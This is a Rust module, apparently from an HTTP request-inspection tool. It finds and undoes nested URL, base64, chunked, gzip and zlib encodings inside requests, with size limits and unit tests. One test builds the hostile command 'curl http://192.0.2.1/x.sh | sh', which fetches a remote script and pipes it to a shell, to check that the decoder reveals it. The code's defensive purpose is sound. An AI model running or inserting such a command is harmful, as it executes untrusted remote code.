//! What is hidden in a request by an encoding: found, and undone.
//!
//! In: the parts of a request. Out: [`Decoded`] bytes, with where they were and how they were wrapped.
//! Undoes URL encoding, base64, chunks, gzip and zlib, one inside the other, four deep. Runs
//! nothing, fetches nothing, and stops where all parts together reach 256 KiB.

use std::collections::HashSet;

use forever200_head::{BodyLength, Head, chunks, extent, unfolded};

use crate::inflate::inflate;
use crate::{base64, escape};

/// Wrappings undone one inside the other.
pub const MAX_DEPTH: usize = 4;
/// Most that all parts together may become. What a request may hold decompresses to a thousand times that,
/// and every byte is one to lay out and to show, at each look at the page.
pub const MAX_DECODED_BYTES: usize = 256 * 1024;
/// Most parts that one request is taken apart into.
const MAX_PARTS: usize = 32;
/// Shorter runs of base64 characters are words.
const MIN_BASE64_CHARS: usize = 12;
/// Longest name of a part, in characters.
const MAX_NAME_CHARS: usize = 60;

/// Bytes that were wrapped.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Decoded {
    /// Where they were, and how they were wrapped, the outermost first: printable text.
    pub what: String,
    /// The bytes.
    pub bytes: Vec<u8>,
}

/// Finds what is wrapped in a request; for other protocols than HTTP, in all of its bytes.
#[must_use]
pub fn decode(raw: &[u8], is_http: bool) -> Vec<Decoded> {
    let mut finder = Finder {
        found: Vec::new(),
        seen: HashSet::new(),
        left: MAX_DECODED_BYTES,
    };
    let Some(head) = Head::parse(raw).filter(|_| is_http) else {
        finder.unwrap("bytes", raw, MAX_DEPTH);
        return finder.found;
    };
    finder.unwrap("target", head.slice(&head.line.target), MAX_DEPTH);
    for field in head.fields() {
        let name = line(head.slice(&field.name), MAX_NAME_CHARS);
        finder.unwrap(&name, &unfolded(head.slice(&field.value)), MAX_DEPTH);
    }
    let lies = extent(raw);
    let body = &raw[lies.body];
    finder.unwrap("body", body, MAX_DEPTH);
    finder.unwrap("behind the request", &raw[lies.extra], MAX_DEPTH);
    if BodyLength::of(&head) == BodyLength::Chunked
        && let Some(body) = unchunk(body)
    {
        finder.keep("body, chunks joined".to_owned(), body, MAX_DEPTH);
    }
    finder.found
}

/// Returns bytes as one line of printable ASCII of at most `max_chars` characters; `…` stands for the rest.
fn line(bytes: &[u8], max_chars: usize) -> String {
    let shown = &bytes[..bytes.len().min(max_chars)];
    let mut line = shown.escape_ascii().to_string();
    if line.len() > max_chars || shown.len() < bytes.len() {
        line.truncate(max_chars.saturating_sub(1));
        line.push('…');
    }
    line
}

/// Returns the names and values of a query or form, decoded, in the order sent.
#[must_use]
pub fn parameters(encoded: &[u8]) -> Vec<(Vec<u8>, Vec<u8>)> {
    let pairs = encoded
        .split(|&byte| byte == b'&')
        .filter(|pair| !pair.is_empty());
    pairs
        .map(|pair| match pair.iter().position(|&byte| byte == b'=') {
            Some(equals) => (plain(&pair[..equals]), plain(&pair[equals + 1..])),
            None => (plain(pair), Vec::new()),
        })
        .collect()
}

/// Undoes the encoding of a form.
fn plain(part: &[u8]) -> Vec<u8> {
    let mut plain = Vec::with_capacity(part.len());
    escape::undo(part, escape::form, |byte, _| plain.push(byte));
    plain
}

struct Finder {
    found: Vec<Decoded>,
    seen: HashSet<Vec<u8>>,
    /// Bytes that there is still room for.
    left: usize,
}

impl Finder {
    /// Tries every wrapping on `bytes`.
    fn unwrap(&mut self, what: &str, bytes: &[u8], depth: usize) {
        if depth == 0 || bytes.is_empty() {
            return;
        }
        if let Some(inner) = url_decoded(bytes) {
            self.keep(format!("{what}, URL-decoded"), inner, depth);
        } else if let Some(inner) = inflate(bytes, self.left) {
            self.keep(format!("{what}, {}", inner.how), inner.bytes, depth);
        } else {
            for run in base64_runs(bytes) {
                if let Some(inner) = base64_decoded(run) {
                    let run = line(run, MAX_NAME_CHARS / 3);
                    self.keep(format!("{what}, base64 {run}"), inner, depth);
                }
            }
        }
    }

    fn keep(&mut self, what: String, mut bytes: Vec<u8>, depth: usize) {
        bytes.truncate(self.left);
        if !bytes.is_empty() && self.found.len() < MAX_PARTS && self.seen.insert(bytes.clone()) {
            self.left -= bytes.len();
            self.found.push(Decoded {
                what: what.clone(),
                bytes: bytes.clone(),
            });
            self.unwrap(&what, &bytes, depth - 1);
        }
    }
}

fn url_decoded(bytes: &[u8]) -> Option<Vec<u8>> {
    let mut decoded = Vec::with_capacity(bytes.len());
    escape::undo(bytes, escape::percent, |byte, _| decoded.push(byte)).then_some(decoded)
}

/// Finds runs of characters that base64 may be made of. `-` and `_` are those of its URL form.
fn base64_runs(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
    let is_base64 = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/-_=".contains(byte);
    bytes.split(move |byte| !is_base64(byte)).map(|run| {
        match run.iter().rposition(|&byte| byte != b'=') {
            // `cmd=aGk=`: the first `=` is none of base64's.
            Some(last) => match run[..last].iter().rposition(|&byte| byte == b'=') {
                Some(equals) => &run[equals + 1..],
                None => run,
            },
            None => &run[..0],
        }
    })
}

/// Decodes base64 where the result is text or compressed: most words are base64 by their letters.
fn base64_decoded(run: &[u8]) -> Option<Vec<u8>> {
    let decoded = Some(run)
        .filter(|run| run.len() >= MIN_BASE64_CHARS)
        .and_then(base64::decode)?;
    let is_text = std::str::from_utf8(&decoded).is_ok_and(|text| {
        text.chars()
            .all(|char| !char.is_control() || matches!(char, '\n' | '\r' | '\t'))
    });
    (is_text || decoded.starts_with(b"\x1f\x8b\x08") || decoded.starts_with(b"\xac\xed\0\x05"))
        .then_some(decoded)
}

/// Joins chunks; `None` when not one can be read.
fn unchunk(body: &[u8]) -> Option<Vec<u8>> {
    let joined: Vec<u8> = chunks(body)
        .flat_map(|chunk| &body[chunk])
        .copied()
        .collect();
    (!joined.is_empty()).then_some(joined)
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use ::base64::Engine;
    use ::base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD};
    use flate2::Compression;
    use flate2::write::GzEncoder;

    use super::*;

    fn found(raw: &[u8]) -> Vec<(String, String)> {
        let parts = decode(raw, Head::parse(raw).is_some()).into_iter();
        parts
            .map(|part| (part.what, part.bytes.escape_ascii().to_string()))
            .collect()
    }

    fn gzip(bytes: &[u8]) -> Vec<u8> {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(bytes).unwrap();
        encoder.finish().unwrap()
    }

    #[test]
    fn each_wrapping_is_undone() {
        let raw =
            b"GET /?c=%2565cho%20x HTTP/1.1\r\nAuthorization: Basic YWRtaW46cGFzc3dvcmQ=\r\n\r\n";
        let expected = [
            ("target, URL-decoded", "/?c=%65cho x"),
            ("target, URL-decoded, URL-decoded", "/?c=echo x"),
            (
                "Authorization, base64 YWRtaW46cGFzc3dvcmQ=",
                "admin:password",
            ),
        ];
        assert_eq!(
            found(raw),
            expected.map(|(what, bytes)| (what.to_owned(), bytes.to_owned()))
        );
    }

    #[test]
    fn one_inside_the_other_is_found() {
        let inner = BASE64_URL_SAFE_NO_PAD.encode(gzip(b"curl http://192.0.2.1/x.sh | sh"));
        let raw = format!(
            "POST / HTTP/1.1\r\n\r\n{{\"cmd\":\"{}\"}}",
            inner.replace('-', "%2d")
        );
        let found = found(raw.as_bytes());
        let (what, bytes) = found.last().unwrap();
        assert_eq!(bytes, "curl http://192.0.2.1/x.sh | sh");
        assert!(
            what.starts_with("body, ") && what.ends_with(", gunzipped"),
            "{what}"
        );
    }

    #[test]
    fn chunks_are_joined_as_far_as_they_go() {
        let head = "POST / HTTP/1.1\r\nTransfer-Encoding: gzip, chunked\r\n\r\n";
        for (body, joined) in [
            ("5\r\nhello\r\n6;x=y\r\n world\r\n0\r\n\r\n", "hello world"),
            ("5\nhello\n6\n wo", "hello wo"),
            ("ffffffffffffffff\r\nhello", "hello"),
        ] {
            let found = found(format!("{head}{body}").as_bytes());
            assert_eq!(
                found,
                [("body, chunks joined".to_owned(), joined.to_owned())]
            );
        }
        for body in ["", "0\r\n\r\n", "-1\r\nx", "zz\r\nhello", "5"] {
            assert_eq!(found(format!("{head}{body}").as_bytes()), []);
        }
    }

    #[test]
    fn words_are_not_base64() {
        for raw in [
            &b"GET /administrator/components/index.php HTTP/1.1\r\nHost: example.com\r\nAccept: application/json\r\n\r\n"[..],
            b"GET /AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA HTTP/1.1\r\n\r\n",
            b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; ExampleBot/2.1)\r\n\r\n=====================",
            b"\x16\x03\x01",
        ] {
            assert_eq!(found(raw), []);
        }
    }

    #[test]
    fn what_explodes_is_cut_off() {
        let bomb = gzip(&vec![b'a'; 50_000_000]);
        let raw = [b"POST / HTTP/1.1\r\n\r\n", &bomb[..]].concat();
        let sizes: Vec<_> = decode(&raw, true)
            .iter()
            .map(|part| part.bytes.len())
            .collect();
        assert_eq!(sizes, [MAX_DECODED_BYTES]);
        // Small ones that are many: each would fit.
        let bombs = (0..MAX_PARTS).map(|number| {
            BASE64_STANDARD.encode(gzip(&[[b'a'; 50_000], [number as u8; 50_000]].concat()))
        });
        let raw = format!(
            "POST / HTTP/1.1\r\n\r\n{}",
            bombs.collect::<Vec<_>>().join(" ")
        );
        let sizes = decode(raw.as_bytes(), true)
            .into_iter()
            .map(|part| part.bytes.len());
        assert_eq!(sizes.sum::<usize>(), MAX_DECODED_BYTES);
        let many = BASE64_STANDARD.encode("many words here") + " ";
        let many: String = (0..1000)
            .map(|number| many.replacen('b', &format!("b{number:04}"), 1))
            .collect();
        assert!(found(format!("POST / HTTP/1.1\r\n\r\n{many}").as_bytes()).len() <= MAX_PARTS);
    }

    #[test]
    fn parameters_keep_their_order_and_bytes() {
        let expected: [(&[u8], &[u8]); 5] = [
            (b"b", b"1 2"),
            (b"a", b"\xff="),
            (b"b", b""),
            (b"", b"x"),
            (b"%zz", b"%"),
        ];
        let found = parameters(b"b=1+2&a=%ff=&&b&=x&%zz=%");
        let found: Vec<_> = found
            .iter()
            .map(|(name, value)| (&name[..], &value[..]))
            .collect();
        assert_eq!(found, expected);
    }
}
